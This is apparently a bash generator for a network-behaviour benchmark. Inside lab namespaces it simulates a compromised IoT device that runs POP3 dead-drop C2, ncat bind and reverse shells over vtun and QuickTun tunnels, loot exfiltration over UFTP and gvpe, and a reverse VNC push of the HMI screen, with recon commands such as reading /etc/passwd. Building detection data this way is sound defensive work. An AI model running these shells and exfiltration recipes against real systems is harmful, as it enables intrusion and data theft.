#!/usr/bin/env bash
# A TWENTY-FOURTH fresh attack set ("f24-*"): a compromised IoT / industrial device using the internet with tools no
# earlier set ran. Made with real packaged tools between network namespaces (no helper program).
#   f24-pop3-deaddrop-c2     a POP3 mailbox as the C2's dead drop (dovecot-pop3d on an internet tcp/110, curl's
#                            pop3://): the bot LISTs the mailbox every 12-18 s, RETRieves and DELEtes what the
#                            operator left there (tasks, and a second stage as a ~150 kB base64 attachment)
#   f24-vtun-bindshell       a vtun tunnel (vtund 3.0.4, tcp/5000, AES-128-CBC) from the device to an internet vtund
#                            server; the operator opens shell sessions on a bind shell (ncat) that listens only on
#                            the device's tunnel address, and reads its loot out through it
#   f24-quicktun-revshell    a QuickTun UDP tunnel (quicktun 2.2.6, nacltai, udp/2998) to an internet peer; a
#                            reverse shell (ncat -e /bin/sh) over it, commands every few seconds and ~150 kB of loot
#   f24-uftp-exfil           the device's loot sent with UFTP (uftp 4.10, encrypted, unicast to an internet uftpd on
#                            udp/1044): 4 rounds of snapshots and config files, 18-24 s apart
#   f24-iperf3-speedtest     a bot measuring its uplink before being sold (iperf3 to an internet iperf3 server on
#                            tcp/5201): a TCP upload, a TCP download (-R) and a UDP test, two rounds
#   f24-x11vnc-reverse-hmi   the device's HMI screen pushed to the attacker: x11vnc on the device's X display
#                            connects out to a listening VNC viewer (TigerVNC vncviewer -listen) on internet tcp/5500
#   f24-gvpe-rawip-exfil     a gvpe VPN (gvpe 3.1) over raw IP protocol 4 - on the wire an IP-in-IP tunnel, made with a
#                            raw socket, no kernel module - to an internet node; status beacons every 12-18 s and the
#                            loot (~210 kB) through it
# Left out (see bench/behavior/README.md, f24): SCTP, IP-in-IP / GRE, PPTP and L2TP (this machine's kernel has no
# SCTP, IPIP, GRE or PPP: only TUN and VXLAN), an ICMP tunnel (ptunnel-ng: fr-c2-ptunnel-icmp; hans is not in
# Debian 12), iodine (dns-iodine-tunnel), SMB put (lat-smbclient-put, tcp/445), the rsync daemon
# (fr-exfil-rsync-daemon), i2pd (no offline network without reseed routers).
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f24-*, veths f24p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.126.x), one per id (a public peer keeps only the frames between the device and that one address). Each
# id's servers are started before its capture and stopped after. Every tool runs under `timeout`, every loop is
# bounded; namespaces are removed on exit. The device is always the lab's attacker namespace (role attacker).
#
# Tools (Debian): dovecot-pop3d curl vtun ncat quicktun uftp iperf3 x11vnc tigervnc-viewer xvfb x11-apps gvpe iproute2
#   tcpdump wireshark-common bc
#
# Usage: bash bench/behavior/fresh24/gen-fresh24.sh [--out DIR (default /work/behavior-bench-fresh24)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh24
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f24 GEN=gen-fresh24
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
# no IPv6 on the tunnels' interfaces either (a new tun takes the default's setting; vtund's server end cannot write
# the client's first IPv6 frames into its tun before that is up)
for n in att vic; do ns "$n" sysctl -qw net.ipv6.conf.default.disable_ipv6=1; done
sleep 1

# ---------- "internet" hosts ----------
# .126.2 POP3 drop, .126.3 vtund server, .126.4 uftpd, .126.5 iperf3 server, .126.6 VNC viewer, .126.7 QuickTun peer,
# .126.8 the gvpe node
internet_hosts 10.128.126.2 10.128.126.3 10.128.126.4 10.128.126.5 10.128.126.6 10.128.126.7 10.128.126.8
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 110000 /dev/urandom | base64 > "$W/loot/cam-config.tar.b64"
head -c 60000 /dev/urandom > "$W/loot/shadow-and-keys.bin"

# ---------- 1. a POP3 mailbox as the C2's dead drop ----------
if want f24-pop3-deaddrop-c2; then
  D="$W/pop3"; rm -rf "$D"; mkdir -p "$D/run" "$D/state" "$D/home"
  echo 'cam7f3a@mail.example:{PLAIN}P0p-7f3a!' > "$D/users"
  cat > "$D/dovecot.conf" <<EOF
base_dir = $D/run
state_dir = $D/state
log_path = $D/dovecot.log
protocols = pop3
listen = 10.128.126.2
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
passdb {
  driver = passwd-file
  args = scheme=PLAIN $D/users
}
userdb {
  driver = static
  args = uid=65534 gid=65534 home=$D/home/%u
}
first_valid_uid = 1
mail_location = maildir:~/Maildir
pop3_uidl_format = %08Xu%08Xv
service pop3-login {
  inet_listener pop3 {
    port = 110
  }
}
EOF
  MB="$D/home/cam7f3a@mail.example/Maildir"
  mkdir -p "$MB/new" "$MB/cur" "$MB/tmp"
  chown -R 65534:65534 "$D/home"
  # a message of the operator's into the mailbox (a file in Maildir/new: delivered on the drop's host, no network)
  drop_msg() { # N SUBJECT BODY [ATTACHMENT]
    local f="$MB/tmp/$1.m"
    {
      printf 'From: ops@mail.example\r\nTo: cam7f3a@mail.example\r\nSubject: %s\r\nDate: %s\r\n' "$2" "$(date -R)"
      printf 'Message-ID: <%s.7f3a@mail.example>\r\nMIME-Version: 1.0\r\n' "$1"
      if [ -n "${4:-}" ]; then
        printf 'Content-Type: multipart/mixed; boundary="b7f3a"\r\n\r\n--b7f3a\r\nContent-Type: text/plain\r\n\r\n'
        printf '%s\r\n--b7f3a\r\nContent-Type: application/octet-stream; name="upd.bin"\r\n' "$3"
        printf 'Content-Transfer-Encoding: base64\r\n\r\n'
        base64 -w 76 "$4" | sed 's/$/\r/'
        printf -- '--b7f3a--\r\n'
      else
        printf 'Content-Type: text/plain\r\n\r\n%s\r\n' "$3"
      fi
    } > "$f"
    chown 65534:65534 "$f"
    mv "$f" "$MB/new/$(date +%s).$1.drop"
  }
  head -c 110000 /dev/urandom > "$W/stage2.bin"
  drop_msg 1 "re: order 7f3a" "task: report; interval 15"
  export -f drop_msg
  export MB
  srv vic 150 dovecot -F -c "$D/dovecot.conf"
  DV_PID=$BG
  wait_tcp vic 10.128.126.2 110
  # the operator: the second stage as an attachment 25 s into the capture, a new task at 55 s (no network)
  ip netns exec "$LAB-vic" timeout 120 bash -c "sleep 25; drop_msg 2 're: order 7f3a' 'task: update; run upd.bin' \
    '$W/stage2.bin'; sleep 30; drop_msg 3 're: order 7f3a' 'task: scan 10.0.0.0/8 tcp/23,2323; report 600'" \
    >>"$W/bg-vic.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/pop3.sh" <<'EOS'
# the bot: every 12-18 s LIST the mailbox (curl: one connection, USER / PASS / LIST / QUIT); for each message RETR it
# and then DELE it (a connection each), for ~90 s
U=(-u 'cam7f3a@mail.example:P0p-7f3a!')
B=pop3://10.128.126.2
mkdir -p "$W/pop3/got"
while [ $SECONDS -lt 88 ]; do
  L=$(timeout 15 curl -s -m 12 "${U[@]}" "$B/" || true)
  for n in $(printf '%s\n' "$L" | awk '/^[0-9]+ [0-9]+/{print $1}'); do
    timeout 20 curl -s -m 15 "${U[@]}" "$B/$n" -o "$W/pop3/got/msg.$SECONDS.$n" || true
    sleep 1
    timeout 15 curl -s -m 12 "${U[@]}" "$B/" -X "DELE $n" -I -o /dev/null || true
  done
  sleep $((12 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.126.2 cap f24-pop3-deaddrop-c2 c2 curl-pop3+dovecot-pop3d attacker public false 105 \
    bash "$W/pop3.sh"
  stopbg "$OP_PID"; stopbg "$DV_PID"; kill_in vic dovecot
  echo "pop3: fetched $(ls "$D/../pop3/got" 2>/dev/null | wc -l) messages," \
    "left $(ls "$MB/new" "$MB/cur" 2>/dev/null | grep -c drop)" >&2
fi

# ---------- 2. a vtun tunnel out; the operator's shell sessions on a bind shell behind it ----------
if want f24-vtun-bindshell; then
  V="$W/vtun"; rm -rf "$V"; mkdir -p "$V"
  cat > "$V/server.conf" <<'EOF'
options {
  port 5000;
  bindaddr { addr 10.128.126.3; };
  timeout 60;
}
cam7f3a {
  passwd Vt-7f3a-ops;
  type tun;
  proto tcp;
  compress no;
  encrypt aes128cbc;
  up {
	ip "link set %% up";
	ip "-family inet addr add 10.99.0.1 peer 10.99.0.2 dev %%";
  };
}
EOF
  cat > "$V/client.conf" <<'EOF'
options {
  port 5000;
  timeout 60;
}
cam7f3a {
  passwd Vt-7f3a-ops;
  persist no;
  keepalive 10:3;
  up {
	ip "link set %% up";
	ip "-family inet addr add 10.99.0.2 peer 10.99.0.1 dev %%";
  };
}
EOF
  mkdir -p /var/lock/vtund /var/log/vtund
  srv vic 150 vtund -s -n -f "$V/server.conf"
  VS_PID=$BG
  wait_tcp vic 10.128.126.3 5000
  # the operator, at the tunnel's far end: 5 shell sessions on the device's tunnel address, 6-10 s apart; in the
  # fourth it reads the loot out (base64)
  cat > "$V/op.sh" <<'EOS'
for i in $(seq 1 40); do ip -4 addr show | grep -q 10.99.0.1 && break; sleep 0.5; done
sleep 4
s=0
for cmds in "id; uname -a; cat /proc/cpuinfo | head -5; ip addr" "ps; cat /etc/passwd; ls -la /etc" \
  "netstat -an 2>/dev/null | head -30; cat /proc/net/arp; ls -la /tmp" "base64 $W/loot/cam-config.tar.b64 | head -c 150000" \
  "uptime; rm -f /tmp/.s"; do
  s=$((s + 1))
  {
    for c in $(echo "$cmds" | tr ';' '\n' | sed 's/^ //' | tr ' ' '\001'); do
      echo "$c" | tr '\001' ' '; sleep $((2 + RANDOM % 2))
    done
    sleep 3; echo exit
  } | timeout 30 ncat -s 10.99.0.1 10.99.0.2 2323 > "$W/vtun/session.$s" 2>&1 || true
  sleep $((6 + RANDOM % 5))
done
EOS
  ip netns exec "$LAB-vic" timeout 120 bash "$V/op.sh" >>"$W/bg-vic.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/vtun.sh" <<'EOS'
# the device: its vtund client up (tun, tcp/5000), then a bind shell on its tunnel address only
V="$W/vtun"
timeout 105 vtund -n -f "$V/client.conf" cam7f3a 10.128.126.3 > "$V/client.log" 2>&1 &
VP=$!
for i in $(seq 1 30); do ip -4 addr show | grep -q 10.99.0.2 && break; sleep 0.5; done
timeout 100 ncat -lk 10.99.0.2 2323 -e /bin/sh > "$V/shell.log" 2>&1 &
NP=$!
sleep 95
kill $NP $VP 2>/dev/null; wait $NP $VP 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.126.3 cap f24-vtun-bindshell c2 vtund-tun-tcp+ncat-bindshell attacker public false 108 \
    bash "$W/vtun.sh"
  stopbg "$OP_PID"; stopbg "$VS_PID"; kill_in vic vtund; kill_in att vtund; kill_in att ncat
  echo "vtun: sessions $(ls "$V"/session.* 2>/dev/null | wc -l), bytes $(cat "$V"/session.* 2>/dev/null | wc -c)" >&2
fi

# ---------- 3. a reverse shell over a QuickTun UDP tunnel ----------
if want f24-quicktun-revshell; then
  Q="$W/qt"; rm -rf "$Q"; mkdir -p "$Q"
  keypair > "$Q/dev.key"; keypair > "$Q/op.key"
  k() { awk -v w="$1:" '$1 == w {print $2}' "$2"; }
  # the operator's end: the peer on udp/2998, a listener for the shell on its tunnel address, commands with pauses
  cat > "$Q/op.sh" <<EOS
IFACE=qt0 IF_QT_PROTOCOL=nacltai IF_QT_TUN_MODE=1 IF_QT_LOCAL_ADDRESS=10.128.126.7 IF_QT_LOCAL_PORT=2998 \
  IF_QT_REMOTE_FLOAT=1 IF_QT_PRIVATE_KEY=$(k SECRET "$Q/op.key") IF_QT_PUBLIC_KEY=$(k PUBLIC "$Q/dev.key") \
  timeout 120 quicktun > "$Q/op-qt.log" 2>&1 &
for i in \$(seq 1 20); do ip link show qt0 >/dev/null 2>&1 && break; sleep 0.2; done
ip addr add 10.98.0.1 peer 10.98.0.2 dev qt0; ip link set qt0 mtu 1400 up
{
  sleep 8
  for c in id "uname -a" "cat /etc/passwd" "ip route" "cat /proc/net/tcp" "ls -la /var /etc" \
      "cat /proc/meminfo | head" "base64 $W/loot/shadow-and-keys.bin" "ls -la /tmp" "ps"; do
    echo "\$c"; sleep \$((4 + RANDOM % 5))
  done
  sleep 5
} | timeout 110 ncat -l 10.98.0.1 4444 > "$Q/shell.out" 2>&1
EOS
  ip netns exec "$LAB-vic" timeout 125 bash "$Q/op.sh" >>"$W/bg-vic.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  sleep 2
  cat > "$W/qt.sh" <<EOS
# the device: its QuickTun end (udp/2998 to the operator's peer), then a reverse shell over the tunnel, retried
IFACE=qt0 IF_QT_PROTOCOL=nacltai IF_QT_TUN_MODE=1 IF_QT_REMOTE_ADDRESS=10.128.126.7 IF_QT_REMOTE_PORT=2998 \
  IF_QT_LOCAL_PORT=2998 IF_QT_PRIVATE_KEY=$(k SECRET "$Q/dev.key") IF_QT_PUBLIC_KEY=$(k PUBLIC "$Q/op.key") \
  timeout 100 quicktun > "$Q/dev-qt.log" 2>&1 &
QP=\$!
for i in \$(seq 1 20); do ip link show qt0 >/dev/null 2>&1 && break; sleep 0.2; done
ip addr add 10.98.0.2 peer 10.98.0.1 dev qt0; ip link set qt0 mtu 1400 up
for t in 1 2 3 4 5; do
  sleep 3
  timeout 95 ncat 10.98.0.1 4444 -e /bin/sh && break
done
sleep 3
kill \$QP 2>/dev/null; wait \$QP 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.126.7 cap f24-quicktun-revshell c2 quicktun-nacltai+ncat-revshell attacker public false 108 \
    bash "$W/qt.sh"
  stopbg "$OP_PID"; kill_in vic quicktun; kill_in vic ncat; kill_in att quicktun
  echo "quicktun: shell output $(wc -c < "$Q/shell.out" 2>/dev/null) bytes" >&2
fi

# ---------- 4. the loot sent with UFTP to an internet receiver ----------
if want f24-uftp-exfil; then
  U="$W/uftp"; rm -rf "$U"; mkdir -p "$U/in" "$U/out"
  # uftpd answers from an unbound socket: its replies to the device take the internet address as their source
  # (else the victim's LAN address, which routes the device)
  ns vic ip route replace 10.66.0.10/32 dev eth0 src 10.128.126.4
  srv vic 130 uftpd -d -D "$U/in" -L "$U/uftpd.log"
  UF_PID=$BG
  sleep 2
  cat > "$W/uftp.sh" <<'EOS'
# the device: 4 rounds, 18-24 s apart, of new snapshots and config files sent (encrypted, 2 Mbit/s) to one receiver
U="$W/uftp"
for r in 1 2 3 4; do
  rm -rf "$U/out"; mkdir -p "$U/out"
  for s in 1 2 3; do head -c $((90000 + RANDOM % 40000)) /dev/urandom > "$U/out/snap-$r-$s.jpg"; done
  [ $r = 1 ] && cp "$W/loot/cam-config.tar.b64" "$W/loot/shadow-and-keys.bin" "$U/out/"
  timeout 40 uftp -M 10.128.126.4 -R 2000 -Y aes256-gcm -h sha256 -I 10.66.0.10 -L "$U/uftp-$r.log" \
    "$U/out"/* || true
  [ $r = 4 ] || sleep $((18 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.126.4 cap f24-uftp-exfil exfil uftp-unicast-encrypted+uftpd attacker public false 110 \
    bash "$W/uftp.sh"
  stopbg "$UF_PID"; kill_in vic uftpd
  ns vic ip route del 10.66.0.10/32 dev eth0 || true
  echo "uftp: received $(find "$U/in" -type f | wc -l) files, $(du -sb "$U/in" | cut -f1) bytes" >&2
fi

# ---------- 5. a bot measuring its uplink (iperf3) ----------
if want f24-iperf3-speedtest; then
  srv vic 130 iperf3 -s -B 10.128.126.5 -p 5201
  IP3_PID=$BG
  wait_tcp vic 10.128.126.5 5201
  cat > "$W/iperf.sh" <<'EOS'
# the device: two rounds 25-30 s apart of a TCP upload (6 s at 4 Mbit/s), a TCP download (-R, 6 s at 4 Mbit/s) and a
# UDP upload (5 s at 1 Mbit/s), the results as JSON
for r in 1 2; do
  timeout 20 iperf3 -c 10.128.126.5 -p 5201 -t 6 -b 4M -J > "$W/iperf-$r-up.json" 2>&1 || true
  sleep 3
  timeout 20 iperf3 -c 10.128.126.5 -p 5201 -t 6 -b 4M -R -J > "$W/iperf-$r-down.json" 2>&1 || true
  sleep 3
  timeout 20 iperf3 -c 10.128.126.5 -p 5201 -u -t 5 -b 1M -l 1200 -J > "$W/iperf-$r-udp.json" 2>&1 || true
  [ $r = 2 ] || sleep $((25 + RANDOM % 6))
done
EOS
  CAP_VIC_IP=10.128.126.5 cap f24-iperf3-speedtest recon iperf3-client+iperf3-server attacker public false 100 \
    bash "$W/iperf.sh"
  stopbg "$IP3_PID"; kill_in vic iperf3
  echo "iperf3: $(grep -h -m1 -o '"bits_per_second":[[:space:]]*[0-9.e+]*' "$W"/iperf-*.json 2>/dev/null | wc -l) results" >&2
fi

# ---------- 6. the device's HMI screen pushed to a listening VNC viewer on the internet ----------
if want f24-x11vnc-reverse-hmi; then
  X="$W/vnc"; rm -rf "$X"; mkdir -p "$X"
  # the attacker's viewer: TigerVNC's vncviewer -listen (tcp/5500) on its own virtual display
  ip netns exec "$LAB-vic" timeout 125 bash -c "
    Xvfb :242 -screen 0 1024x768x24 -nolisten tcp > '$X/xvfb-op.log' 2>&1 & XP=\$!
    sleep 1
    DISPLAY=:242 timeout 120 xtigervncviewer -listen 5500 -ViewOnly=0 -Shared=1 > '$X/viewer.log' 2>&1
    kill \$XP" >>"$W/bg-vic.log" 2>&1 &
  VW_PID=$!; PIDS+=("$VW_PID")
  # no wait_tcp: the viewer takes the first connection to 5500 as the VNC server's and would exit on a probe
  sleep 4
  cat > "$W/vnc.sh" <<'EOS'
# the device: its panel's display (Xvfb 800x480, a clock updating every second and a trend plot), x11vnc connecting
# out to the viewer; 80 s of watching, then the device drops the connection
X="$W/vnc"
Xvfb :241 -screen 0 800x480x24 -nolisten tcp > "$X/xvfb-dev.log" 2>&1 &
XP=$!
sleep 1
export DISPLAY=:241
timeout 95 xclock -update 1 -geometry 240x240+10+10 > /dev/null 2>&1 &
timeout 95 xeyes -geometry 300x200+300+20 > /dev/null 2>&1 &
timeout 95 xload -update 2 -geometry 400x180+300+260 > /dev/null 2>&1 &
sleep 2
timeout 85 x11vnc -display :241 -connect_or_exit 10.128.126.6:5500 -rfbport 0 -nolookup -nopw -shared -noxdamage -quiet \
  > "$X/x11vnc.log" 2>&1 || true
kill $XP 2>/dev/null; wait $XP 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.126.6 cap f24-x11vnc-reverse-hmi exfil x11vnc-reverse+tigervnc-listen attacker public false 100 \
    bash "$W/vnc.sh"
  stopbg "$VW_PID"; kill_in vic Xvfb; kill_in vic xtigervncviewer; kill_in att Xvfb; kill_in att x11vnc
  echo "vnc: $(grep -c -i 'connected\|reverse' "$X/x11vnc.log" 2>/dev/null) connect lines" >&2
fi

# ---------- 7. beacons and loot through a gvpe VPN over raw IP protocol 4 (what an IP-in-IP tunnel looks like) ----------
if want f24-gvpe-rawip-exfil; then
  G="$W/gvpe"; rm -rf "$G"; mkdir -p "$G/hostkeys" "$G/in"
  cat > "$G/gvpe.conf" <<EOF
private-key = hostkeys/%s
pid-file = $G/%s.pid
enable-udp = no
enable-rawip = yes
ip-proto = 4
ifname = vpn0
mtu = 1500
keepalive = 20
loglevel = info
node = op
hostname = 10.128.126.8
connect = ondemand
node = cam
connect = always
EOF
  printf '%s\n' '#!/bin/sh' 'ip link set "$IFNAME" address "$MAC" mtu "$MTU" up' \
    'ip addr add "10.97.0.$NODEID/24" dev "$IFNAME"' > "$G/if-up"
  chmod +x "$G/if-up"
  gvpectrl -c "$G" -G >/dev/null 2>&1
  # the operator's node on 10.128.126.8 (raw IP protocol 4), a listener on its VPN address keeping what arrives
  ip netns exec "$LAB-vic" timeout 125 bash -c "
    timeout 120 gvpe -D -c '$G' op > '$G/op.log' 2>&1 &
    for i in \$(seq 1 40); do ip -4 addr show vpn0 2>/dev/null | grep -q 10.97.0.1 && break; sleep 0.5; done
    for i in \$(seq 1 12); do timeout 60 ncat -l 10.97.0.1 8443 > '$G/in/recv.'\$i 2>/dev/null || true; done" \
    >>"$W/bg-vic.log" 2>&1 &
  GV_PID=$!; PIDS+=("$GV_PID")
  sleep 3
  cat > "$W/gvpe.sh" <<'EOS'
# the device: its gvpe node (connect = always to the operator's 10.128.126.8 over raw IP protocol 4), then a status
# beacon to the operator's VPN address every 12-18 s; the loot streamed in the third
G="$W/gvpe"
timeout 100 gvpe -D -c "$G" cam > "$G/cam.log" 2>&1 &
GP=$!
for i in $(seq 1 40); do ip -4 addr show vpn0 2>/dev/null | grep -q 10.97.0.2 && break; sleep 0.5; done
sleep 2
for b in 1 2 3 4 5 6; do
  [ $SECONDS -lt 85 ] || break
  if [ $b = 3 ]; then
    { echo "loot cam7f3a"; cat "$W/loot/cam-config.tar.b64" "$W/loot/shadow-and-keys.bin"; } | \
      timeout 20 ncat --send-only 10.97.0.1 8443 || true
  else
    printf 'beacon cam7f3a %s up=%s load=%s\n' "$b" "$(cut -d' ' -f1 /proc/uptime)" "$(cut -d' ' -f1 /proc/loadavg)" | \
      timeout 10 ncat --send-only 10.97.0.1 8443 || true
  fi
  sleep $((12 + RANDOM % 7))
done
kill $GP 2>/dev/null; wait $GP 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.126.8 cap f24-gvpe-rawip-exfil exfil gvpe-rawip-proto4+ncat attacker public false 105 \
    bash "$W/gvpe.sh"
  stopbg "$GV_PID"; kill_in vic gvpe; kill_in vic ncat; kill_in att gvpe
  echo "gvpe: received $(cat "$G"/in/recv.* 2>/dev/null | wc -c) bytes in $(find "$G/in" -size +0 -type f | wc -l) connections" >&2
fi

lab_index
